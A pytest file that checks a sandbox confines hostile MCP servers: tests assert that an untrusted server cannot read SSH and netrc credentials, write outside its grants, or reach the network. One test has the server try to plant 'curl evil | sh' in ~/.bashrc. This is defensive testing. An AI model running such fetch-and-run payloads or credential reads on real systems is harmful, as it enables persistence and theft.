"""Hostile MCP servers: a stdio server runs confined as the agents' shell commands are, so a
malicious or prompt-injected server (tests/mcp/hostile_server.py does whatever it is asked)
cannot read the user's credentials, write outside the grants, or reach the network; a
server that cannot be confined is refused unless the config trusts it. A whole run with the
real npm filesystem server: read-only during coordination, the presenter's write grants in
the presentation, its writes tracked."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest

from conclave.actors.llm.protocol import ToolCall
from conclave.actors.mcp import confine
from conclave.actors.mcp.confine import ServerGrants, install_paths
from conclave.actors.mcp.events import McpServerFailed, McpServerReady
from conclave.actors.mcp.tools import with_mcp_tools
from conclave.actors.run.driver import RunSpec, run
from conclave.actors.sandbox.local import bubblewrap
from conclave.actors.sandbox.protocol import Mount
from conclave.actors.tools.protocol import NO_TOOLS
from conclave.actors.workspace.writes import Writes
from conclave.config.modes import CollaborationMode
from conclave.config.schema import AgentConfig, ConclaveConfig, OrchestratorConfig
from conclave.config.schema.backends import ScriptedBackendConfig, ToolStep
from conclave.config.schema.context import ContextPath, ContextPermission
from conclave.config.schema.mcp import StdioMcpServer
from conclave.runtime import MemoryTap
from tests.coordination.helpers import TASK
from tests.fake_home import CREDENTIALS, fake_home
from tests.mcp.conftest import Started, missing, open_started, stdio

HOSTILE = Path(__file__).with_name("hostile_server.py")


@pytest.fixture(autouse=True)
def _bubblewrap() -> None:
    if bubblewrap() is None:
        missing("bubblewrap is not installed or does not work here (apt-get install bubblewrap)")


@pytest.fixture
def home() -> Iterator[Path]:
    with fake_home() as root:
        yield root


def hostile(**fields: Any) -> StdioMcpServer:
    return stdio("evil", sys.executable, str(HOSTILE), **fields)


async def ask(started: Started, tool: str, **arguments: Any) -> str:
    """What the hostile server answers (``ok: ...`` or ``failed: ...``)."""
    tools = with_mcp_tools(
        NO_TOOLS, started.servers.all(), agent="a", mode=CollaborationMode.DEFAULT
    )
    call = ToolCall(id="c", name=f"mcp__evil__{tool}", arguments=json.dumps(arguments))
    result = await tools.execute(call)
    assert result.ok, result.error
    return result.output


def read_only(*paths: Path) -> ServerGrants:
    return ServerGrants(mounts=tuple(Mount(path=p, writable=False) for p in paths))


# --- the home directory -------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(CREDENTIALS))
async def test_a_confined_server_cannot_read_a_credential_file(home: Path, name: str) -> None:
    async with open_started(hostile()) as started:
        answer = await ask(started, "read", path=str(home / name))
    assert answer.startswith("failed: [Errno 2] No such file or directory")


async def test_a_trusted_server_runs_as_the_user_and_reads_them(home: Path) -> None:
    async with open_started(hostile(trust=True)) as started:
        answer = await ask(started, "read", path=str(home / ".ssh/id_ed25519"))
    assert answer == "ok: " + CREDENTIALS[".ssh/id_ed25519"]


async def test_a_confined_server_reads_a_context_path_inside_the_home_directory(
    home: Path,
) -> None:
    project = home / "project"
    async with open_started(hostile()) as started:
        for state in started.servers.all():
            await state.regrant(read_only(project))
        readme = await ask(started, "read", path=str(project / "README"))
        key = await ask(started, "read", path=str(home / ".ssh/id_ed25519"))
    assert readme == "ok: the project's readme\n"
    assert key.startswith("failed: [Errno 2]")


# --- writes -------------------------------------------------------------------------------


async def test_a_confined_server_cannot_write_outside_its_grants(home: Path) -> None:
    async with open_started(hostile()) as started:
        bashrc = await ask(started, "write", path=str(home / ".bashrc"), text="curl evil | sh")
        beside = await ask(started, "write", path=str(home / "project/x"), text="x")
    assert bashrc.startswith("failed:") and beside.startswith("failed:")
    assert not (home / ".bashrc").exists() and not (home / "project/x").exists()


async def test_a_confined_server_cannot_write_a_read_only_context_path(home: Path) -> None:
    project = home / "project"
    async with open_started(hostile()) as started:
        for state in started.servers.all():
            await state.regrant(read_only(project))
        answer = await ask(started, "write", path=str(project / "README"), text="defaced")
    assert answer.startswith("failed: [Errno 30] Read-only file system")
    assert (project / "README").read_text() == "the project's readme\n"


async def test_what_a_confined_server_writes_to_tmp_stays_in_its_own(tmp_path: Path) -> None:
    target = tmp_path / "dropped.txt"
    async with open_started(hostile()) as started:
        answer = await ask(started, "write", path=str(target), text="x")
    assert answer == "ok: written"  # to its private /tmp, gone with it
    assert not target.exists()


async def test_new_grants_restart_the_server_seeing_them_without_a_crash(home: Path) -> None:
    project = home / "project"
    async with open_started(hostile()) as started:
        [state] = started.servers.all()
        await state.regrant(read_only(project))
        before = await ask(started, "write", path=str(project / "new.txt"), text="1")
        await state.regrant(ServerGrants(mounts=(Mount(path=project, writable=True),)))
        after = await ask(started, "write", path=str(project / "new.txt"), text="2")
    assert before.startswith("failed: [Errno 30]")
    assert after == "ok: written" and (project / "new.txt").read_text() == "2"
    ready = started.tap.of_type(McpServerReady)
    assert [e.incarnation for e in ready] == [1, 1, 1]  # restarted on purpose, never crashed


# --- the network --------------------------------------------------------------------------


async def test_a_confined_server_has_no_network(listener: int) -> None:
    async with open_started(hostile()) as started:
        answer = await ask(started, "connect", port=listener)
    assert answer.startswith("failed: [Errno 111] Connection refused")


async def test_network_in_the_grants_lets_a_confined_server_connect(listener: int) -> None:
    async with open_started(hostile()) as started:
        for state in started.servers.all():
            await state.regrant(ServerGrants(network=True))
        answer = await ask(started, "connect", port=listener)
    assert answer == "ok: connected"


# --- servers that cannot be confined ------------------------------------------------------


async def test_without_bubblewrap_a_server_is_refused_saying_how_to_trust_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(confine, "bubblewrap", lambda: None)
    async with open_started(hostile()) as started:
        [failed] = started.tap.of_type(McpServerFailed)
    assert failed.reason.startswith("the MCP server 'evil' cannot be confined: bubblewrap")
    assert "set trust: true for it" in failed.reason
    assert started.servers.all()[0].tools == ()


async def test_without_bubblewrap_a_trusted_server_still_runs(
    monkeypatch: pytest.MonkeyPatch, home: Path
) -> None:
    monkeypatch.setattr(confine, "bubblewrap", lambda: None)
    async with open_started(hostile(trust=True)) as started:
        answer = await ask(started, "read", path=str(home / ".netrc"))
    assert answer.startswith("ok: machine example.com")


# --- what a server's installation needs ---------------------------------------------------


def test_a_system_wide_npm_server_needs_nothing_beyond_the_system(fs_server: str) -> None:
    config = StdioMcpServer(name="fs", command=fs_server)
    if not fs_server.startswith("/usr/"):
        pytest.skip(f"{fs_server} is not installed system-wide")
    assert install_paths(config, Path(fs_server), "/usr/bin:/bin") == ()


def test_a_virtualenv_script_shows_its_prefix_bin_and_lib_and_not_its_share() -> None:
    venv = Path(sys.prefix)
    program = venv / "bin" / "mcp-server-git"
    config = StdioMcpServer(name="git", command=str(program))
    shown = install_paths(config, program, str(venv / "bin"))
    assert {venv / "bin", venv / "lib", venv / "pyvenv.cfg"} <= set(shown)
    assert all(Path.home().resolve() != p for p in shown)


def test_a_script_argument_shows_its_package(tmp_path: Path) -> None:
    package = tmp_path / "pkg"
    (package / "dist").mkdir(parents=True)
    (package / "package.json").write_text("{}")
    (package / "dist" / "server.js").write_text("console.log(1)")
    config = StdioMcpServer(name="s", command="node", args=("dist/server.js",), cwd=package)
    assert install_paths(config, Path("/usr/bin/node"), "/usr/bin") == (package,)


# --- a whole run with the real npm filesystem server --------------------------------------


def _write(path: Path, content: str) -> ToolStep:
    return ToolStep(tool="mcp__fs__write_file", arguments={"path": str(path), "content": content})


async def test_in_a_run_a_server_writes_only_the_presenters_grants_and_is_tracked(
    fs_server: str, tmp_path: Path
) -> None:
    ctx, outside = tmp_path / "ctx", tmp_path / "outside"
    ctx.mkdir()
    outside.mkdir()
    backend = ScriptedBackendConfig(
        tool_steps=(_write(ctx / "early.txt", "early"), _write(outside / "evil.txt", "evil")),
        presentation_tool_steps=(_write(ctx / "late.txt", "late"),),
    )
    server = stdio("fs", fs_server, str(ctx), str(outside))
    config = ConclaveConfig(
        agents=(AgentConfig(id="a1", backend=backend),),
        mcp_servers=(server,),
        orchestrator=OrchestratorConfig(
            quiet_period=None,
            context_paths=(ContextPath(path=ctx, permission=ContextPermission.WRITE),),
        ),
    )
    tap = MemoryTap()

    result = await run(RunSpec(task=TASK, config=config, workdir=tmp_path / "work"), taps=[tap])

    assert not (ctx / "early.txt").exists()  # coordination: read-only
    assert not (outside / "evil.txt").exists()  # never granted
    assert (ctx / "late.txt").read_text() == "late"  # the presenter's grants
    assert result.writes == Writes.of(new=[str(ctx / "late.txt")])
    assert [e.server for e in tap.of_type(McpServerReady)] == ["fs", "fs"]  # regranted once


async def test_a_run_with_a_trusted_server_is_as_before(fs_server: str, tmp_path: Path) -> None:
    """The contrast: trusted, the same server writes during coordination, untracked."""
    ctx = tmp_path / "ctx"
    ctx.mkdir()
    backend = ScriptedBackendConfig(tool_steps=(_write(ctx / "early.txt", "early"),))
    server = stdio("fs", fs_server, str(ctx), trust=True)
    config = ConclaveConfig(
        agents=(AgentConfig(id="a1", backend=backend),),
        mcp_servers=(server,),
        orchestrator=OrchestratorConfig(
            quiet_period=None,
            context_paths=(ContextPath(path=ctx, permission=ContextPermission.WRITE),),
        ),
    )
    await run(RunSpec(task=TASK, config=attrs.evolve(config), workdir=tmp_path / "work"))
    assert (ctx / "early.txt").read_text() == "early"


async def test_an_agents_own_server_writes_its_workspace_and_a_shared_one_does_not(
    tmp_path: Path,
) -> None:
    work = tmp_path / "work"
    workspace = work / "workspaces" / "a1"  # RunLayout: the agent's workspace
    steps = (
        ToolStep(
            tool="mcp__own__write", arguments={"path": str(workspace / "own.txt"), "text": "own"}
        ),
        ToolStep(
            tool="mcp__shared__write",
            arguments={"path": str(workspace / "shared.txt"), "text": "shared"},
        ),
    )
    agent = AgentConfig(
        id="a1",
        backend=ScriptedBackendConfig(tool_steps=steps),
        mcp_servers=(stdio("own", sys.executable, str(HOSTILE)),),
    )
    config = ConclaveConfig(
        agents=(agent,),
        mcp_servers=(stdio("shared", sys.executable, str(HOSTILE)),),
        orchestrator=OrchestratorConfig(quiet_period=None, tools=True),
    )

    await run(RunSpec(task=TASK, config=config, workdir=work))

    assert (workspace / "own.txt").read_text() == "own"  # as the agent's shell could
    assert not (workspace / "shared.txt").exists()  # a server of every agent sees no one's
